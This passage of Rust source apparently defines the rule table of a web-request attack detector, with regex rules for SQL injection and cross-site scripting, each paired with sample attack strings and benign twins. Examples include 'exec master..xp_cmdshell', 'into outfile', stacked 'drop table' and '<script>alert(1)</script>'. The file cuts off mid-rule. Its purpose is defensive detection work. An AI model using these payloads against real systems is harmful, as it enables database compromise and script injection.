//! The rule table: each rule matches one view of a value, belongs to a
//! class, a sensitivity level (1 = always on, 4 = paranoid) and a
//! confidence. All patterns run on lowercased, decoded bytes with Unicode
//! off (byte-oriented classes stay fast on non-ASCII input).

use crate::{Class, Confidence, Finding, SourceKind};

/// Which view of the value a rule reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum View {
    /// Decoded, lowercased, CR/LF kept.
    Decoded,
    /// [`View::Decoded`] with SQL comments and whitespace runs folded.
    Sql,
    /// [`View::Decoded`] with `\` as `/`, repeated `/` collapsed.
    Path,
}

/// Where a rule applies.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Scope {
    Any,
    /// Not in free-text bodies (JSON/XML values, form text), where the
    /// pattern is ordinary prose.
    NotText,
    /// [`Scope::NotText`] minus names (query and form names, JSON keys):
    /// rules that read a whole value as a command line, where a name such
    /// as `uname` is ordinary.
    Value,
    /// Only free text (JSON/XML values, text fields): the stricter twin of
    /// a [`Scope::NotText`] rule.
    Text,
    /// Only this source.
    Only(SourceKind),
    /// Places where a control character is never legitimate: path, names,
    /// headers, cookies, JSON keys.
    Structural,
}

impl Scope {
    /// Whether a rule with this scope reads a value from `source`.
    pub(crate) fn applies(self, source: SourceKind) -> bool {
        let name = matches!(
            source,
            SourceKind::QueryName | SourceKind::FormName | SourceKind::JsonKey
        );
        match self {
            Scope::Any => true,
            Scope::NotText => !source.is_text(),
            Scope::Value => !source.is_text() && !name,
            Scope::Text => source.is_text(),
            Scope::Only(s) => s == source,
            Scope::Structural => {
                name || matches!(
                    source,
                    SourceKind::Path | SourceKind::Header | SourceKind::Cookie
                )
            }
        }
    }
}

/// What a rule runs.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Matcher {
    /// A pattern over one view of the value.
    Pattern { view: View, pattern: &'static str },
    /// A check written as code in [`crate::Detector::inspect`], for what a
    /// pattern cannot say (nested lookups resolved, a SQL tokenizer, a URL
    /// parser, evidence from decoding).
    Code(Check),
}

/// The checks written as code; each has one row in [`RULES`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Check {
    /// Log4j lookups nested to hide `jndi:` (`${${lower:j}ndi:...}`).
    NestedLookup,
    /// A quoted literal closed and continued as valid SQL.
    QuoteBreakout,
    /// A URL (or a bare host) that names a loopback, private or metadata
    /// address.
    InternalHost,
    /// A URL with a scheme that reaches files or other protocols.
    DangerousScheme,
    /// Markup hidden behind entities or escapes.
    EncodedMarkup,
    /// A script scheme split by whitespace or hidden behind escapes.
    HiddenScheme,
    /// Overlong UTF-8, `%u` escapes or NUL bytes around a path.
    EncodingEvasion,
    /// Characters whose low byte is CR or LF (`嘊嘍`, U+560A U+560D),
    /// which servers that cut characters to bytes write as a line break,
    /// followed by a header or a parameter.
    UnicodeCrlf,
}

impl Check {
    /// Every check, in declaration order (`check as usize` is its index).
    pub(crate) const ALL: [Check; 8] = [
        Check::NestedLookup,
        Check::QuoteBreakout,
        Check::InternalHost,
        Check::DangerousScheme,
        Check::EncodedMarkup,
        Check::HiddenScheme,
        Check::EncodingEvasion,
        Check::UnicodeCrlf,
    ];
}

/// One row of the rule table: what a rule looks for, how sure and how
/// serious a match is, and the values it must catch and must pass. A
/// generated test runs every row's examples through [`crate::Detector::inspect`]
/// at the row's level, so a rule that an optimisation mutes fails a test.
#[derive(Debug)]
pub struct Rule {
    pub(crate) id: &'static str,
    pub(crate) class: Class,
    pub(crate) level: u8,
    pub(crate) confidence: Confidence,
    pub(crate) severity: u8,
    pub(crate) scope: Scope,
    pub(crate) matcher: Matcher,
    pub(crate) catches: &'static [&'static str],
    pub(crate) passes: &'static [&'static str],
}

impl Rule {
    /// The rule id, as findings and exclusions name it.
    #[must_use]
    pub fn id(&self) -> &'static str {
        self.id
    }

    /// The attack class.
    #[must_use]
    pub fn class(&self) -> Class {
        self.class
    }

    /// The lowest sensitivity level that runs the rule (1–4).
    #[must_use]
    pub fn level(&self) -> u8 {
        self.level
    }

    /// How sure a match is.
    #[must_use]
    pub fn confidence(&self) -> Confidence {
        self.confidence
    }

    /// 1 (minor) to 5 (critical).
    #[must_use]
    pub fn severity(&self) -> u8 {
        self.severity
    }

    /// The pattern, or `None` for a check written as code.
    #[must_use]
    pub fn pattern(&self) -> Option<&'static str> {
        match self.matcher {
            Matcher::Pattern { pattern, .. } => Some(pattern),
            Matcher::Code(_) => None,
        }
    }

    /// The view a pattern reads; `None` for a check written as code.
    pub(crate) fn view(&self) -> Option<View> {
        match self.matcher {
            Matcher::Pattern { view, .. } => Some(view),
            Matcher::Code(_) => None,
        }
    }

    /// The check written as code; `None` for a pattern.
    pub(crate) fn check(&self) -> Option<Check> {
        match self.matcher {
            Matcher::Code(check) => Some(check),
            Matcher::Pattern { .. } => None,
        }
    }

    /// A finding of this rule on the whole of `view`.
    pub(crate) fn finding(&self, view: &[u8]) -> Finding {
        Finding {
            class: self.class,
            rule: self.id,
            severity: self.severity,
            confidence: self.confidence,
            excerpt: crate::excerpt(view, 0, view.len()),
        }
    }

    /// Whether the rule reads values from `source`.
    #[must_use]
    pub fn reads(&self, source: SourceKind) -> bool {
        self.scope.applies(source)
    }

    /// Values the rule must catch when inspected as
    /// [`Rule::example_source`].
    #[must_use]
    pub fn catches(&self) -> &'static [&'static str] {
        self.catches
    }

    /// Benign twins of [`Rule::catches`]: values that must pass inspection
    /// at the rule's level without any finding.
    #[must_use]
    pub fn passes(&self) -> &'static [&'static str] {
        self.passes
    }

    /// The source the examples are inspected as: the first the rule reads
    /// of query value, JSON value, path, header, multipart file name, JSON
    /// key.
    #[must_use]
    pub fn example_source(&self) -> SourceKind {
        [
            SourceKind::QueryValue,
            SourceKind::JsonValue,
            SourceKind::Path,
            SourceKind::Header,
            SourceKind::MultipartFilename,
            SourceKind::JsonKey,
        ]
        .into_iter()
        .find(|&s| self.reads(s))
        .unwrap_or(SourceKind::QueryValue)
    }
}

use Class::*;
use Confidence::{High, Low, Medium};
use Scope::{Any, NotText, Only, Structural, Text, Value};
use View::{Decoded as D, Path as P, Sql as S};

/// Tags that run script or load content without any attribute, or that
/// change how the rest of the page parses: one list for the parameter rule
/// and its free-text twin.
macro_rules! dangerous_tags {
    () => {
        "iframe|frame|frameset|object|embed|applet|meta|base|link|svg|math|isindex|xml|import|marquee|bgsound|layer|ilayer|xss|portal|template|details|audio|video|source|track|form|button|textarea|keygen|style|body|image|animate|set|handler|listener|vmlframe|xmp|plaintext|noscript|noembed|select|option|datalist|dialog|html|head|title|input"
    };
}

/// One row of the table, whatever its matcher.
macro_rules! row {
    ($id:literal, $class:expr, $level:literal, $conf:expr, $sev:literal, $scope:expr, $matcher:expr,
     [$($catch:expr),+], [$($pass:expr),+]) => {
        Rule {
            id: $id,
            class: $class,
            level: $level,
            confidence: $conf,
            severity: $sev,
            scope: $scope,
            matcher: $matcher,
            catches: &[$($catch),+],
            passes: &[$($pass),+],
        }
    };
}

/// A pattern row: id, class, level, confidence, severity, view, scope,
/// pattern, then at least one value it catches and one benign twin.
macro_rules! rule {
    ($id:literal, $class:expr, $level:literal, $conf:expr, $sev:literal, $view:expr, $scope:expr, $pat:expr,
     catches [$($catch:expr),+ $(,)?], passes [$($pass:expr),+ $(,)?] $(,)?) => {
        row!($id, $class, $level, $conf, $sev, $scope,
            Matcher::Pattern { view: $view, pattern: $pat }, [$($catch),+], [$($pass),+])
    };
}

/// A row for a check written as code: id, class, level, confidence,
/// severity, scope, the check, then its examples.
macro_rules! code_rule {
    ($id:literal, $class:expr, $level:literal, $conf:expr, $sev:literal, $scope:expr, $check:expr,
     catches [$($catch:expr),+ $(,)?], passes [$($pass:expr),+ $(,)?] $(,)?) => {
        row!($id, $class, $level, $conf, $sev, $scope, Matcher::Code($check),
            [$($catch),+], [$($pass),+])
    };
}

#[rustfmt::skip]
pub(crate) static RULES: &[Rule] = &[
    // ---------------------------------------------------------------- SQLi
    rule!("sqli-union", Sqli, 1, High, 5, S, Any,
        r"(?:\b|\d)union\b(?: all| distinct| distinctrow)?[ (]*select\b",
        catches ["1 union select 1,2,3"],
        passes ["union station, select tours"]),
    rule!("sqli-union-values", Sqli, 1, High, 5, S, NotText, r"\bunion\b(?: all)? *\(?(?:null|\d+) *, *(?:null|\d+)|\bselect +union\b",
        catches ["x union all (null, null)"],
        passes ["the union of 5 and 6"]),
    rule!("sqli-from-where", Sqli, 1, High, 5, S, NotText,
        r"\bfrom +[a-z0-9_.`\[\]\x22]+ +where +[a-z0-9_.`\[\]\x22]+ *(?:=|<|>|!=|\blike\b|\bin\b|\bis\b)|^[ (]*select\b.{0,200}\b(?:from|where|limit)\b",
        catches ["1 from users where id = 1"],
        passes ["from paris where it rains"]),
    rule!("sqli-quoted-operands", Sqli, 1, High, 4, S, NotText, r#"['"] *(?:<>|!=|<=|>=|<|>|=|\|\||\^|&|\*|%) *['"]|' *\+ *'|\d+ *\|\| *[a-z_]+ *\(|\b(?:char|chr)\s*\(\s*\d+\s*\)"#,
        catches ["a' = 'a"],
        passes ["it's a 'nice' day"]),
    rule!("sqli-case-when", Sqli, 2, High, 4, S, NotText, r"\bcase\b.{0,40}\bwhen\b.{0,80}\bthen\b",
        catches ["case when 1=1 then 1 else 0 end"],
        passes ["in case of rain, call us"]),
    rule!("sqli-quote-operator-quote", Sqli, 1, High, 4, S, NotText,
        r#"' +(?:<<|>>|<=>|&&|\|\||[&|^/%*+=<>!~-]) +'|' *(?:and|or|xor|div|mod|not|like|rlike|regexp|is|in|between|sounds like|not like|not rlike|not regexp|eqv|imp|<=>|<<|>>|&&|\|\||[&|^%!~]) *'|'(?:\^|\|[^|']|&[^&']|<<|>>|!=|~)[^' ]{0,24}'|'(?:or|and|xor)[!~(-]|' *(?:grant|revoke|shutdown|declare)\b"#,
        catches ["1' or '1"],
        passes ["rock 'n' roll"]),
    rule!("sqli-quote-break-expression", Sqli, 2, High, 4, S, Value,
        r#"^ ?[\w.@-]{1,20}['"`] ?(?:[-+*/%^|&=<>!~]|(?:or|and|xor|div|mod|like|rlike|regexp|is|not|in|sounds|between|collate|binary|union|having|group|order|procedure|limit|into)\b)[^'"`]{0,120}?(?:['"`][\w.@-]{0,12} ?$|(?:#|--|;)[^'"`]{0,20}$)|^ ?['"`] ?(?:[-+*/%^|&=<>!~]|(?:or|and|xor|div|mod|like|rlike|regexp|is|not|in|sounds|between|collate|binary|union|having|group|order|procedure|limit|into)\b)[^'"`]{0,120}?(?:#|--|;)[^'"`]{0,20}$"#,
        catches ["admin' or 1=1 --"],
        passes ["john's or mary's"]),
    rule!("sqli-number-boolean-identifier", Sqli, 1, High, 4, S, NotText,
        r"(?:^|[ (])-?\d+[) ]*\b(?:and|or|xor|&&|\|\|)\b *[a-z_][a-z0-9_.]* *(?:=|<>|!=|<|>|\bis\b|\blike\b|\bin\b|\bregexp\b|\(\))|^-?\d+ *\)? *union(?: +(?:all|distinct)\b| *\(| *$| *(?:--|#|/\*|;))|(?:^|[ (])(?:or|and) +[a-z0-9_]+ *(?:=|<>|!=|<|>|\blike\b) *[a-z0-9_'\x22]+ *$|(?:^|[ )'\x22])(?:or|and|xor|having)[ (]+[a-z_][\w.]*\)? *(?:=|<>|!=|<|>|\blike\b) *\(*[\w.'\x22]+\)* *(?:#|--|;|/\*)",
        catches ["1 and user_id=1"],
        passes ["1 and only one"]),
    rule!("sqli-tautology-quote", Sqli, 1, High, 5, S, NotText,
        r#"['"][) ]*(?:(?:or|and|xor|div|like|rlike|regexp|sounds like)\b|\|\||&&)[ (!~]*(?:'[^']*' *(?:=|<|>|!=|<>|\blike\b|--|#|/\*|\)|;)|"[^"]*" *(?:=|<|>|!=|<>|\blike\b|--|#|/\*|\)|;)|['"][a-z0-9]{0,3}$|['"]?-?\d+(?:\.\d+)? *(?:=|<|>|!=|<>|--|#|/\*|\)|;|$|\bor\b|\band\b|\bis\b|\blike\b|\bbetween\b|\bin\b)|true\b|false\b|null\b|not\b|[a-z_][a-z0-9_.]* *\(|select\b|exists\b|@@?\w|[a-z_][a-z0-9_.]* *(?:=|<>|!=|<|>|\bis\b|\blike\b|\bin\b|\bbetween\b|\bregexp\b))"#,
        catches ["x' or 'a'='a"],
        passes ["O'Neil and Sons"]),
    // In free text a quoted word followed by `and` is prose (`"sid" and not
    // "testing"`): only a comparison after the quote counts.
    rule!("sqli-tautology-quote-text", Sqli, 1, High, 5, S, Text,
        r#"['"][) ]*(?:or|and|xor|\|\||&&)[ (!~]*(?:'[^']*' *(?:=|<|>|!=|<>|\blike\b)|"[^"]*" *(?:=|<|>|!=|<>|\blike\b)|['"]?-?\d+(?:\.\d+)? *(?:=|<|>|!=|<>)|select\b|exists\b|@@?\w|[a-z_][a-z0-9_.]* *(?:=|<>|!=|<|>)|[a-z_][a-z0-9_]* *\([^()]{0,80}\) *(?:=|<>|!=|<|>))"#,
        catches ["thanks for the help' or 'a'='a"],
        passes ["we call it \"trixie/sid\" and not \"testing/unstable\" now"]),
    rule!("sqli-tautology-number", Sqli, 1, High, 5, S, Any,
        r"(?:^|[ (=])-?\d+(?:\.\d+)?[) ]*\b(?:or|and|xor|&&|\|\|)\b[ (]*-?\d+ *(?:=|<>|!=|<=>|>=|<=|>|<|\blike\b) *\(?-?\d+",
        catches ["1 or 1=1"],
        passes ["1 or 2 items"]),
    rule!("sqli-tautology-boolean", Sqli, 1, High, 5, S, Any,
        r#"(?:^|['")\d ])(?:or|and|\|\||&&)(?: +|(?: *[(+])+)(?:not +)?(?:true|false|\d+|'[^']*'|"[^"]*")\)? *(?:(?:=|<>|!=|>|<|\blike\b|\bis\b) *\(*[+-]?(?:true|false|null|\d+|'[^']*'|"[^"]*")|--(?:[ \r\n]|$)|#|/\*)"#,
        catches ["x' or true=true"],
        passes ["more or less true"]),
    rule!("sqli-logic-comparison", Sqli, 1, High, 5, S, NotText,
        r"(?:\b(?:and|or|xor)\b|&&|\|\|)[ (]*[-+~!(]* *(?:\d+(?:\.\d+)?|[a-z_]+ *\([^()]{0,20}(?:\([^()]{0,20}\))?[^()]{0,20}\))[ )]*(?:[-+*/%] *[-+~(]*\d+[ )]*)?(?:=|<>|!=|<=>|<|>)[ (]*[-+~!(]* *(?:\d|[a-z_]+ *\()|(?:\b(?:and|or|xor)|&&|\|\|) *[-+~!]{3,} *\(*\d|^\( *-?\d+ *= *-?\d+ *\) *[-+*/]|(?:^|['\x22\d)]) *(?:or|and|\|\||&&) *[a-z_][\w.]* +is +(?:not +)?null\b|^-?\d+ *[-+*/%] *[a-z_]+ *\( *['\x22\d]",
        catches ["x and 1>0"],
        passes ["black and white"]),
    rule!("sqli-quote-or-empty", Sqli, 1, High, 4, S, NotText,
        r#"['"] *(?:or|and|\|\||&&) *(?:''|"")(?: *[-+ ]*['"]|$)|['"] *(?:or|and|xor|\|\||&&) +(?:current_date|current_time|current_timestamp|current_user|localtime|sysdate|pi|rand)\b|['"] *(?:or|and|xor|\|\||&&) +[a-z_][\w.]* +(?:not +)?(?:rlike|regexp|like|sounds like) +['"]|\bmatch\b.{0,60}\bagainst *\( *['"]|\bin +(?:boolean|natural +language) +mode\b"#,
        catches ["x' or ''"],
        passes ["'' is an empty string"]),
    rule!("sqli-quoted-operator-soup", Sqli, 2, High, 4, S, Value,
        r#"^[\w.@ -]{0,20}['"] *(?:[-+*/%^|&=<>!~](?:[-+*/%^|&=<>!~().0-9 ]|\b(?:is|or|and|xor|div|mod|like|regexp|rlike|not|null|between|sounds|binary)\b)*?(?:[-+*/%^|&=<>!~]|\b(?:is|or|and|xor|div|mod|like|regexp|rlike|not|null|between|sounds|binary)\b)|\b(?:is|or|and|xor|div|mod|like|regexp|rlike|not|null|between|sounds|binary)\b(?:[-+*/%^|&=<>!~().0-9 ]|\b(?:is|or|and|xor|div|mod|like|regexp|rlike|not|null|between|sounds|binary)\b)*?[-+*/%^|&=<>!~])(?:[-+*/%^|&=<>!~().0-9 ]|\b(?:is|or|and|xor|div|mod|like|regexp|rlike|not|null|between|sounds|binary)\b)*['"][\w.@ +-]{0,12}$"#,
        catches ["1' * 2 + '0"],
        passes ["5' 10\" tall"]),
    rule!("sqli-chained-condition", Sqli, 2, High, 4, S, NotText,
        r#"^-?\d+ +(?:or|\|\|) +(?:true|not +false)\b|\) *like *\(|\b\d+\.e *[(.] *[a-z_]|^ *(?:and|or|xor|&&|\|\|) *\(* *(?:[a-z_][\w.]*|\d+|null|true|false|'[^']*'|"[^"]*") *(?:={1,3}|!=|<>|<=>|<=|>=|=!|<|>|[-+*/%](?: *$| *\d)|\blike\b|\bis\b)|'\s*(?:\{\s*"[^']*\}|\[\s*[\d"\[{][^']*\])\s*'\s*(?:::\s*\w+\s*)?(?:->>?|#>>?|@>|<@|\?\||\?&|\?\s*'|\|\|)|\bjson_(?:extract|depth|type|valid|contains|search|unquote|array_length|build_object|agg)\s*\(|^ *(?:not +)?in *\( *-?\d+ *(?:, *-?\d+ *)+\)|^-?\d+ *(?:!=|<=>|\blike\b|\brlike\b|\bregexp\b) *-?\d+ *$|(?:['")]|\b[a-z_]\w*) *:: *(?:int|integer|bigint|text|jsonb?|varchar|numeric|regclass|oid|bool|boolean)\b"#,
        catches ["1 or true"],
        passes ["1 or two"]),
    rule!("sqli-function-call", Sqli, 2, High, 4, S, NotText,
        r"(?:^|[^.\w])(?:concat_ws|group_concat|substring_index|char_length|octet_length|bit_length|unhex|uncompress|coalesce|ifnull|nullif|isnull|make_set|export_set|find_in_set|db_name|schema_name|current_user|session_user|system_user|sysdate|strcmp|rtrim|ltrim|lpad|rpad|datalength|ucase|lcase|soundex|aes_encrypt|aes_decrypt|des_encrypt|last_insert_id|row_count|found_rows|connection_id|sys_context|lo_get|lo_import|substring|ascii|md5|sha1) *\(",
        catches ["group_concat(password)"],
        passes ["group concat (music)"]),
    // A value whose only content is a syntax break: a lone quote after a
    // word (`admin'`, `test')`), string concatenation (`||'6`), a comment
    // after a statement break (`1;--`). A probe, not yet an injection: a
    // suspicion at level 2 (step-up on sensitive routes), a block from
    // level 3.
    rule!("sqli-syntax-probe", Sqli, 2, Medium, 3, S, Value,
        r#"^\s*[\w.@-]{0,30}['"`]{1,3}\)*\s*$|^\s*(?:\|\||&&)\s*['"]\d*\s*$|^\s*[\w.@-]{0,30}\s*;\s*(?:--|#|/\*)\s*$"#,
        catches ["admin'", "||'6", "1;--"],
        passes ["O'Brien", "rock 'n' roll"]),
    rule!("sqli-syntax-probe-strict", Sqli, 3, High, 4, S, Value,
        r#"^\s*[\w.@-]{0,30}['"`]{1,3}\)*\s*$|^\s*(?:\|\||&&)\s*['"]\d*\s*$|^\s*[\w.@-]{0,30}\s*;\s*(?:--|#|/\*)\s*$"#,
        catches ["test')", "'"],
        passes ["it's", "5 o'clock"]),
    rule!("sqli-stacked", Sqli, 1, High, 5, S, NotText,
        r#"(?:^|['")\d]) *; *(?:select|insert|update|delete|drop|create|alter|exec|execute|declare|shutdown|truncate|waitfor|grant|revoke|rename|set +@|call|begin|if|union|sleep|load|handler|replace|merge|use|do|while|goto)\b"#,
        catches ["1; drop table users"],
        passes ["hello; select your seat"]),
    // In free text (code pasted in a comment, where `"); if` and `1; use`
    // are ordinary) only a statement that changes or reads data counts.
    rule!("sqli-stacked-text", Sqli, 1, High, 5, S, Text,
        r#"(?:^|['")\d]) *; *(?:(?:select|union)\b.{0,100}\bfrom\b|insert +into\b|update +[\w.`\x22\[\]]+ +set\b|delete +from\b|drop +(?:table|database|user)\b|create +(?:table|user|database)\b|alter +(?:table|user)\b|exec(?:ute)?\b|declare +@|shutdown\b|truncate +table\b|waitfor +delay\b|grant\b|revoke\b)"#,
        catches ["great product and fast shipping'; drop table users --"],
        passes ["if ok { return; } if x then y; use foo::bar; do it again and again"]),
    rule!("sqli-comment-truncation", Sqli, 1, High, 4, S, NotText,
        r#"['"][) ]*(?:--(?:[ \r\n]|$)|#(?:[^0-9a-z]|$)|/\*|; *--|; *%00)"#,
        catches ["admin'--"],
        passes ["it's -- fine"]),
    // In free text `r#"` (Rust strings) and `'#'` are code: only `--` ends a
    // quoted literal.
    rule!("sqli-comment-truncation-text", Sqli, 1, High, 4, S, Text,
        r#"['"][) ]*(?:--(?:[ \r\n]|$)|; *--|; *%00)"#,
        catches ["my name is admin and my login is admin'-- thanks a lot"],
        passes ["let data = r#\"{ \\\"name\\\": \\\"john\\\" }\"#; println!(\"# done\")"]),
    rule!("sqli-comment-after-keyword", Sqli, 1, High, 4, S, NotText,
        r"\b(?:or|and|union|select|from|where|order by|group by|having|limit|null|admin)\b[^a-z]{0,12}(?:--[ \-]|--$|#|/\*)",
        catches ["admin--"],
        passes ["admin panel"]),
    rule!("sqli-trailing-comment", Sqli, 1, High, 4, D, NotText,
        r#"(?:[)'"]|\b\d+|@@?\w+) *(?:--|/\*) *\w* *$"#,
        catches ["5 --"],
        passes ["5 - 3"]),
    rule!("sqli-number-comment", Sqli, 2, High, 4, D, NotText,
        r#"(?s)^[-+~ 0-9a-fx/]*(?:#|--|/\*|\r|\n).{0,60}\bunion(?:\s*$|\s*[(/]|\s+(?:all|distinct|select)\b)|^-?\d+ */\*!?\d*['"]"#,
        catches ["1 /*'"],
        passes ["1 / 2"]),
    rule!("sqli-time", Sqli, 1, High, 5, S, Any,
        r"\bpg_sleep\b|\b(?:sleep|benchmark|randomblob|dbms_lock\.sleep|dbms_pipe\.receive_message)\b *\(|\bwaitfor +(?:delay|time)\b|\bgenerate_series *\(",
        catches ["1 and sleep(5)"],
        passes ["sleep well"]),
    rule!("sqli-error-functions", Sqli, 1, High, 5, S, Any,
        r"\b(?:extractvalue|updatexml|xmltype|ctxsys\.drithsx\.sn|utl_inaddr\.get_host_\w+|dbms_xmlgen|json_keys|gtid_subset|name_const)\b *\(|\bfloor *\( *rand *\(",
        catches ["extractvalue(1,concat(0x7e,version()))"],
        passes ["extract value from data"]),
    rule!("sqli-system-objects", Sqli, 1, High, 5, S, NotText,
        r"\binformation_schema\b|\bmysql\.(?:user|db)\b|\bsys\.(?:objects|tables|columns|databases|user_summary)\b|\bsys(?:objects|columns|databases|users|logins)\b|\bpg_(?:catalog|shadow|user|tables|database|namespace)\b|\bsqlite_(?:master|schema|version)\b|\ball_(?:tables|users|tab_columns)\b|\buser_(?:tables|tab_columns|objects)\b|\bmsysobjects\b|\bmsysaccessobjects\b|\b(?:tempdb|msdb)\b|\bmaster\.\.\w+",
        catches ["select * from information_schema.tables"],
        passes ["information schema design"]),
    // Free text names system tables when it documents them: only a query
    // that reads one counts.
    rule!("sqli-system-objects-text", Sqli, 1, High, 5, S, Text,
        r"\bfrom +(?:information_schema|mysql\.(?:user|db)|sys\.(?:objects|tables|columns|databases)|sys(?:objects|columns|databases|users|logins)|pg_(?:catalog|shadow|user|tables|database|namespace)|sqlite_(?:master|schema)|all_(?:tables|users|tab_columns)|user_(?:tables|tab_columns|objects)|msysobjects|master\.\.\w+)\b",
        catches ["nice shop' union select table_name from information_schema.tables --"],
        passes ["the information_schema views and systemd-sysusers are documented here"]),
    rule!("sqli-variables", Sqli, 1, High, 4, S, Any,
        r"@@(?:version|datadir|hostname|basedir|servername|language|spid|tmpdir|global)\b|\b(?:version|database|schema|current_user|session_user|system_user|user|connection_id|last_insert_id)\b *\( *\)",
        catches ["@@version"],
        passes ["version 2 of the user guide"]),
    rule!("sqli-exec", Sqli, 1, High, 5, S, Any,
        r"\bexecute +immediate\b|\bexec(?:ute)? +master\.|\bprocedure +analyse\b|\bexec(?:ute)? +(?:master\.\.)?(?:xp|sp)_\w*|\bxp_(?:cmdshell|regread|dirtree|fileexist)\b|\bopen(?:rowset|datasource|query)\b *\(|\bsp_(?:oacreate|executesql|makewebtask|password)\b",
        catches ["exec master..xp_cmdshell 'dir'"],
        passes ["execute the plan"]),
    rule!("sqli-file", Sqli, 1, High, 5, S, Any,
        r"\binto +(?:out|dump)file\b|\bload_file *\(|\butl_(?:http|file|tcp)\b|\bload +data +(?:local +)?infile\b",
        catches ["1 into outfile '/tmp/x'"],
        passes ["log in to file a claim"]),
    rule!("sqli-subselect", Sqli, 1, High, 5, S, Any,
        r"\b(?:any|some|all|exists) *\( *select\b|\( *select\b *(?:\(|\*|top\b|distinct\b|count *\(|concat|char|@@|case\b|if *\(|null\b|\d|[a-z_]+ *\(|[a-z_.`\[\]]+ *(?:,|\bfrom\b|\)))",
        catches ["1 and exists(select 1)"],
        passes ["it exists (see below)"]),
    rule!("sqli-select-from-after-breakout", Sqli, 1, High, 5, S, Any,
        r#"(?:^|['")\d]|\bor|\band) *[;(]* *select\b[^;]{0,160}?\bfrom\b"#,
        catches ["1 select name from users"],
        passes ["please select one from the list"]),
    rule!("sqli-select-functions", Sqli, 1, High, 5, S, Any,
        r"\bselect\b *(?:\*|null|\d+ *,|@@?\w|concat|char|count *\(|group_concat|0x[0-9a-f]+|case\b|if *\(|substring|ascii|version|database|user\b|(?:current|session|system)_user\b|current_(?:database|schema)\b|top +\d|[a-z_]+ *\(|\$)",
        catches ["select @@version"],
        passes ["select your size"]),
    rule!("sqli-order-by", Sqli, 1, High, 4, S, Any,
        r#"(?:['")\d]|^) *(?:order|group) +by +(?:\d+|[a-z_]+)(?: *(?:--|#|/\*|,)|$| +(?:asc|desc)\b *(?:--|#))|\b(?:order|group) +by +(?:ifnull|if|iif|case|rand|sleep|extractvalue|updatexml|select)\b *\(?"#,
        catches ["1 order by 3--"],
        passes ["place an order by phone"]),
    rule!("sqli-having", Sqli, 1, High, 4, S, Any,
        r"\bhaving\b *\(? *(?:\d+|true|false) *(?:[=<>]|(?:or|and) +(?:\d|true\b|false\b|\())|\bgroup +by\b.{0,80}\bhaving\b",
        catches ["1 having 1=1"],
        passes ["having fun"]),
    rule!("sqli-ddl-dml", Sqli, 1, High, 5, S, Any,
        r"\bbackup +(?:database|log)\b.{0,80}\bto +(?:disk|url)|\bdrop +(?:table|database|schema|user|view|procedure|function|index)\b|\binsert +into\b.{0,200}?\bvalues *\(|\bdelete +from +[a-z_.`\[\]]+ *(?:where\b|;|$|--|#)|\bupdate +[a-z_.`\[\]]+ +set +[a-z_.`\[\]]+ *=|\btruncate +table\b|\balter +(?:table|user|database)\b|\bcreate +(?:table|user|database|function|procedure|trigger)\b",
        catches ["drop table users"],
        passes ["drop the table"]),
    rule!("sqli-char-concat", Sqli, 1, High, 4, S, Any,
        r"\b(?:char|chr|nchar)\b *\( *\d+ *(?:, *\d+ *)*\) *(?:\+|\|\||,|\))|\bconcat(?:_ws)? *\(.{0,60}(?:0x[0-9a-f]|char *\(|select|@@|'|\bcast\b)|\b(?:cast|convert) *\(.{0,80}\bas +(?:n?varchar|n?char|int|signed|unsigned|text|binary)\b",
        catches ["char(65)+char(66)"],
        passes ["char grill"]),
    rule!("sqli-conditional", Sqli, 2, High, 4, S, Any,
        r"\bcase +when\b.{0,120}\bthen\b|\bif *\( *\d+ *[=<>]|(?:^|[^\w\x80-\xff])(?:iif *\(|elt *\( *\d)|\b(?:ascii|ord|substr|substring|mid|length|hex|unhex|bin|lower|upper) *\( *(?:\(|select\b|@@|user|database|version|substr|substring|mid|left|right|char)|\bmake_set *\( *\d|\bfind_in_set *\(|\bisnull *\( *\d+ */ *0",
        catches ["if(1=1,sleep(5),0)"],
        passes ["if (you can)"]),
    rule!("sqli-quote-concat", Sqli, 2, Medium, 3, S, Any,
        r#"['"] *(?:\|\||\+) *['"(]|['"] *(?:\|\||\+) *(?:char|chr|select)\b"#,
        catches ["x'||'y"],
        passes ["a + b"]),
    rule!("sqli-hex-blob-context", Sqli, 2, High, 4, S, Any,
        r"(?:,|\(|=|select) *0x[0-9a-f]{6,}",
        catches ["=0x41424344"],
        passes ["color 0x41 red"]),
    rule!("sqli-mssql-waitfor-declare", Sqli, 1, High, 5, S, Any,
        r"\bdeclare +@\w+|\bexec *\( *@|\bcast *\( *0x",
        catches ["declare @s varchar(99)"],
        passes ["declare your income"]),
    rule!("sqli-like-wildcard-breakout", Sqli, 2, Medium, 3, S, Any,
        r#"['"] *(?:or|and) +[a-z_]+ +like +['"]%"#,
        catches ["x' or name like '%"],
        passes ["names like %20"]),
    rule!("sqli-quote-paren-breakout", Sqli, 2, Medium, 3, S, Any,
        r#"^-?\d*['"]?\) *(?:or|and|as|union|;|where|\))"#,
        catches ["1') or 1"],
        passes ["1) apples"]),
    // ---------------------------------------------------------------- XSS
    rule!("xss-script-tag", Xss, 1, High, 5, D, Any,
        r"<[ /]*script[\s>/]|<[ /]*script$",
        catches ["<script>alert(1)</script>"],
        passes ["javascript tutorial"]),
    rule!("xss-event-handler-in-tag", Xss, 1, High, 5, D, Any,
        r"<[a-z][^>]*?[\s/\x22'`;]on[a-z]{3,}\s*=|<[a-z]+/on[a-z]+=",
        catches ["<img src=x onerror=alert(1)>"],
        passes ["img onerror handling"]),
    rule!("xss-event-handler-attribute", Xss, 1, High, 5, D, Any,
        r#"["'`](?:[^<>]{0,40}?[\s/;])?on(?:error|load|mouse\w+|click|dblclick|focus\w*|blur|change|submit|key\w+|input|select|toggle|begin|end|animation\w+|transition\w+|pageshow|popstate|hashchange|message|resize|scroll|wheel|drag\w*|drop|copy|cut|paste|play\w*|pause|readystatechange|beforeunload|unload|afterprint|beforeprint|start|finish|bounce|pointer\w+|touch\w+|auxclick|contextmenu|search|invalid|reset|show|loadstart|loadend|error\w*|zoom|webkit\w+)\s*=|<\s*["'`/]\s*on[a-z]{3,}\s*="#,
        catches ["\" onmouseover=alert(1) x=\""],
        passes ["\"on hold\" = waiting"]),
    rule!("xss-js-scheme", Xss, 1, High, 5, D, Any,
